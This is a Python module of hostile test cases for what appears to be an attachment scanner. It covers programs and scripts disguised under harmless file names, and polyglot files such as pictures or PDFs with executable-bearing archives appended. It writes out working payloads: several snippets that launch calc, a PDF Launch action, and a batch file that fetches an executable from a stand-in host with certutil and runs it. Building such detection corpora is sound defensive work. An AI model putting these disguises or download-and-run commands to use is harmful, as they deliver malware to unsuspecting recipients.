"""Owns hostile cases in what a file is: programs and scripts under harmless names, and files that are two things."""

from __future__ import annotations

import base64
import struct
import zlib
from functools import partial

from support.corpus import payloads
from support.corpus.case import INSTALLER, PROGRAM, SCRIPT, SHORTCUT, STOPPED, Register
from support.corpus.packers import cab, rar4, rar5, seven_zip, zipped
from support.corpus.shapes import TEXT, attached, letter, mail, multipart, part
from support.files import compound

contents = Register("content")
polyglots = Register("polyglot")

_CHM = (
    b"ITSF\x03\0\0\0\x60\0\0\0\x01\0\0\0"
    + bytes(80)
    + b"\x10\xfd\x01\x7c\xaa\x7b\xd0\x11\x9e\x0c\0\xa0\xc9\x22\xe6\xec"
)
_SCRIPTLET = (
    b'<?XML version="1.0"?>\r\n<scriptlet>\r\n<registration progid="a" classid="{00000000-0000-0000-0000-0000DAD0BABE}">'
    b'<script language="JScript"><![CDATA[new ActiveXObject("WScript.Shell").Run("calc");]]></script>'
    b"</registration></scriptlet>\r\n"
)
_XSL = (
    b'<?xml version="1.0"?><stylesheet xmlns="http://www.w3.org/1999/XSL/Transform" '
    b'xmlns:ms="urn:schemas-microsoft-com:xslt" version="1.0"><ms:script implements-prefix="user" language="JScript">'
    b'<![CDATA[new ActiveXObject("WScript.Shell").Run("calc");]]></ms:script></stylesheet>'
)
_SYLK = b'ID;PSCALC3\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;EEXEC("calc.exe")\r\nC;X1;Y102;EHALT()\r\nE\r\n'
_LIBRARY = (
    b'<?xml version="1.0" encoding="UTF-8"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
    b"<searchConnectorDescriptionList><searchConnectorDescription><simpleLocation>"
    b"<url>\\\\files.invalid\\share</url></simpleLocation></searchConnectorDescription>"
    b"</searchConnectorDescriptionList></libraryDescription>"
)
_SETTING = (
    b'<?xml version="1.0" encoding="UTF-8"?><PCSettings><SearchableContent '
    b'xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><ApplicationInformation>'
    b"<DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>"
)
_BATCH = (
    b"@echo off\r\nsetlocal enabledelayedexpansion\r\nset target=%TEMP%\\a.exe\r\n"
    b"if exist %target% del %target%\r\ncertutil -urlcache -f http://files.invalid/a %target%\r\nstart %target%\r\n"
)
_OBFUSCATED_JS = (
    b"var _0x1a2b=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','Run'];"
    b"(function(a,b){var c=new ActiveXObject(a[0]);c[a[1]](b,0,!1);})(_0x1a2b,String.fromCharCode(99,97,108,99));"
)


def _class_id_storage() -> bytes:
    return compound(
        {"\x05SummaryInformation": b"\xfe\xff" + bytes(200), "Property": bytes(5000), "!_StringData": b"MsiExec"}
    )


for _name, _technique, _file, _content, _found in (
    ("pe-as-photo", "a Windows program named as a photo", b"photo.jpg", payloads.windows_program(), PROGRAM),
    ("pe-as-text", "a Windows program named as a text", b"readme.txt", payloads.windows_program_32(), PROGRAM),
    ("pe-as-dat", "a Windows program named .dat", b"winmail.dat", payloads.windows_program(), PROGRAM),
    ("pe-as-document", "a Windows program named as a document", b"letter.docx", payloads.windows_program(), PROGRAM),
    ("pe-as-pdf", "a Windows program named as a PDF", b"letter.pdf", payloads.windows_program(), PROGRAM),
    ("pe-lower-mark", "the ZM mark that DOS accepts too", b"tool.xyz", b"ZM" + payloads.dos_program()[2:], PROGRAM),
    ("dos-stub", "the smallest DOS program", b"tool.bin", payloads.dos_program(), PROGRAM),
    ("elf", "a Linux program", b"tool", payloads.linux_program(), PROGRAM),
    ("mach-o", "a Mac program", b"tool", payloads.mac_program(), PROGRAM),
    ("mach-o-fat", "a Mac program for two processors", b"tool", b"\xca\xfe\xba\xbe" + struct.pack(">IIIIII", 1, 0x01000007, 3, 4096, 4096, 12).ljust(4092, b"\0") + payloads.mac_program(), PROGRAM),
    ("java-class", "a Java class", b"Main", payloads.java_class(), PROGRAM | SCRIPT),
    ("jar", "a Java program named as a zip", b"files.zip", zipped({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: Main\r\n", "Main.class": payloads.java_class()}), PROGRAM | SCRIPT),
    ("apk", "an Android program named as a zip", b"files.zip", zipped({"AndroidManifest.xml": b"\x03\0\x08\0", "classes.dex": b"dex\n035\0" + bytes(100)}), INSTALLER),
    ("dex", "Android code", b"code", b"dex\n035\0" + bytes(200), PROGRAM),
    ("vbs", "a Visual Basic script without an ending", b"note", payloads.VBSCRIPT, SCRIPT),
    ("vbs-utf16", "a Visual Basic script in UTF-16", b"note", b"\xff\xfe" + payloads.VBSCRIPT.decode().encode("utf-16-le"), SCRIPT),
    ("vbs-as-document", "a Visual Basic script named as a document", b"note.doc", payloads.VBSCRIPT, SCRIPT),
    ("js", "a JScript without an ending", b"note", payloads.JSCRIPT, SCRIPT),
    ("js-obfuscated", "a JScript that spells its words in escapes", b"note", _OBFUSCATED_JS, SCRIPT),
    ("encoded-script", "a script encoded by Microsoft's encoder", b"note", b"#@~^XAAAAA==" + b"@#@&" * 30 + b"AAAAAA==^#~@", SCRIPT),
    ("powershell", "a PowerShell script without an ending", b"note", payloads.POWERSHELL, SCRIPT),
    ("batch", "a batch file without an ending", b"note", _BATCH, SCRIPT),
    ("shell", "a shell script without an ending", b"note", payloads.SHELL, SCRIPT),
    ("perl", "a Perl script without an ending", b"note", b"#!/usr/bin/env perl\nuse strict;\nsystem('id');\n", SCRIPT),
    ("python-code", "compiled Python", b"note", b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(60), SCRIPT | PROGRAM | STOPPED),
    ("hta-as-html", "an HTML application named as a page", b"page.html", payloads.HTA, SCRIPT),
    ("hta-as-text", "an HTML application named as a text", b"page.txt", payloads.HTA, SCRIPT),
    ("wsf", "a Windows script file named .xml", b"data.xml", payloads.WSF, SCRIPT),
    ("scriptlet", "a scriptlet named .xml", b"data.xml", _SCRIPTLET, SCRIPT),
    ("xsl", "a style sheet with a script, named .xml", b"data.xml", _XSL, SCRIPT),
    ("sylk", "a SYLK sheet that calls a program, named .csv", b"marks.csv", _SYLK, SCRIPT | frozenset({"macro"})),
    ("lnk", "a Windows shortcut named as a document", b"letter.doc", payloads.SHORTCUT, SHORTCUT),
    ("url", "an internet shortcut named as a document", b"letter.doc", payloads.URL, SHORTCUT),
    ("library", "a library file named .xml", b"data.xml", _LIBRARY, SHORTCUT),
    ("setting", "a settings link named .xml", b"data.xml", _SETTING, SHORTCUT | SCRIPT),
    ("chm", "compiled help named as a document", b"help.doc", _CHM, PROGRAM | SCRIPT),
    ("reg", "registry settings without an ending", b"note", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n\"a\"=\"b\"\r\n", SCRIPT),
    ("deb", "a Debian package under another name", b"tool.dat", b"!<arch>\ndebian-binary   0           0     0     100644  4         `\n2.0\n", INSTALLER),
    ("applescript", "a compiled AppleScript", b"note", b"FasdUAS 1.101.10\x0e" + bytes(100), SCRIPT),
    ("wasm-page", "a saved page (MHTML) with a script", b"page.doc", b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=p\r\n\r\n--p\r\nContent-Type: text/html\r\n\r\n" + payloads.HTA + b"--p--\r\n", SCRIPT),
    ("mobileconfig", "an Apple settings profile under its type", b"wifi.mobileconfig", b'<?xml version="1.0"?><plist version="1.0"><dict><key>PayloadType</key><string>Configuration</string></dict></plist>', INSTALLER | SCRIPT | SHORTCUT),
    ("program-upx", "a program whose sections are packed", b"tool.ico", payloads.windows_program().replace(b".text\0\0\0", b"UPX0\0\0\0\0"), PROGRAM),
    ("windows-scenario", "a batch file named as a certificate", b"school.cer", _BATCH, SCRIPT),
    ("rtlo-program", "a program with an override in its name", "holiday\u202egpj.scr".encode(), payloads.windows_program(), PROGRAM),
):  # fmt: skip
    contents.add(_name, _technique, partial(attached, _content, _file), _found)


@contents.case("a Windows Installer package named .dat", INSTALLER | STOPPED)
def installer_package() -> bytes:
    return attached(_msi(), b"data.dat")


def _msi() -> bytes:
    """A compound file with the class id of the Windows Installer."""
    packed = bytearray(_class_id_storage())
    directory = 512 + 512 * struct.unpack_from("<I", packed, 48)[0]
    packed[directory + 80 : directory + 96] = bytes.fromhex("84100c0000000000c000000000000046")
    return bytes(packed)


@contents.case("a program in line between texts, without a name, in 8bit", SCRIPT)
def script_in_line() -> bytes:
    script = part(b"Content-Type: text/plain; name=note\r\n", payloads.VBSCRIPT)
    return mail(multipart(TEXT, script))


_PICTURE = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
_PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
_JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x48\0\x48\0\0" + b"\xff\xfe\x40\0" + bytes(0x3FFE) + b"\xff\xd9"
_PNG = b"\x89PNG\r\n\x1a\n" + b"".join(
    struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    for kind, body in (
        (b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)),
        (b"IDAT", zlib.compress(b"\0\0")),
        (b"IEND", b""),
    )
)
_ZIP = zipped({"setup.exe": payloads.windows_program()})

for _name, _technique, _file, _content, _found in (
    ("pdf-zip", "a PDF with a zip behind it", b"letter.pdf", _PDF + _ZIP, PROGRAM),
    ("zip-pdf", "a zip with a PDF before it, named .zip", b"letter.zip", _PDF + _ZIP, PROGRAM),
    ("gif-zip", "a picture with a zip behind it", b"logo.gif", _PICTURE + _ZIP, PROGRAM),
    ("gif-jar", "a picture that is a Java program too", b"logo.gif", _PICTURE + zipped({"META-INF/MANIFEST.MF": b"Main-Class: Main\r\n", "Main.class": payloads.java_class()}), PROGRAM | SCRIPT),
    ("jpeg-zip", "a photo with a zip behind it", b"photo.jpg", _JPEG + _ZIP, PROGRAM),
    ("jpeg-rar", "a photo with a RAR behind it", b"photo.jpg", _JPEG + rar4(b"setup.exe", payloads.windows_program()), PROGRAM | STOPPED),
    ("png-7z", "a picture with a 7z behind it", b"logo.png", _PNG + seven_zip("setup.exe", payloads.windows_program()), PROGRAM | STOPPED),
    ("text-zip", "a text of a megabyte with a zip behind it", b"notes.txt", b"All is well.\r\n" * 75_000 + _ZIP, PROGRAM),
    ("zip-comment", "a zip whose comment is a zip", b"files.zip", zipped({"a.txt": b"a"}, comment=_ZIP), PROGRAM),
    ("zip-zip", "two zips, one behind the other, the program in the first", b"files.zip", _ZIP + zipped({"a.txt": b"a"}), PROGRAM),
    ("sfx-zip", "a program that unpacks itself", b"files.exe", payloads.windows_program() + zipped({"a.txt": b"a"}), PROGRAM),
    ("sfx-zip-renamed", "a program that unpacks itself, named .zip", b"files.zip", payloads.windows_program() + zipped({"a.txt": b"a"}), PROGRAM),
    ("sfx-rar", "a RAR that unpacks itself", b"files.rar", payloads.windows_program() + rar5(b"a.txt", b"a"), PROGRAM),
    ("sfx-7z", "a 7z that unpacks itself", b"files.7z", payloads.windows_program() + seven_zip("a.txt", b"a"), PROGRAM),
    ("pdf-junk-first", "a PDF behind a kilobyte of junk, with a program inside it", b"letter.pdf", b"\n" * 900 + _PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/Launch/F(calc.exe)>>"), PROGRAM | SCRIPT | SHORTCUT),
    ("gif-script", "a picture that is a script too, named .js", b"logo.js", b"GIF89a=1;" + payloads.JSCRIPT, SCRIPT),
    ("html-picture", "a page in the comment of a picture, named .hta", b"logo.hta", _JPEG + payloads.HTA, SCRIPT),
    ("html-in-jpeg", "a photo that holds a page with a script, named .htm", b"photo.htm", _JPEG + payloads.HTA, SCRIPT),
    ("batch-zip", "a batch file with a zip behind it, named .zip", b"files.zip", payloads.BATCH + _ZIP, PROGRAM | SCRIPT),
    ("docx-exe", "a document with a program as one of its parts", b"letter.docx", zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", "word/media/image1.png": payloads.windows_program()}), PROGRAM),
    ("pdf-cab", "a PDF with a cabinet behind it", b"letter.pdf", _PDF + b"\0" * 16 + cab(b"setup.exe", payloads.windows_program()), PROGRAM | STOPPED),
):  # fmt: skip
    polyglots.add(_name, _technique, partial(attached, _content, _file), _found)


@polyglots.case("a picture and a program as the two parts of one related page", PROGRAM)
def related() -> bytes:
    page = part(b"Content-Type: text/html\r\n", b'<img src="cid:a">')
    picture = part(
        b"Content-Type: image/gif\r\nContent-ID: <a>\r\nContent-Transfer-Encoding: binary\r\n", _PICTURE + _ZIP
    )
    return letter(multipart(page, picture, kind=b"related", boundary=b"inner"))
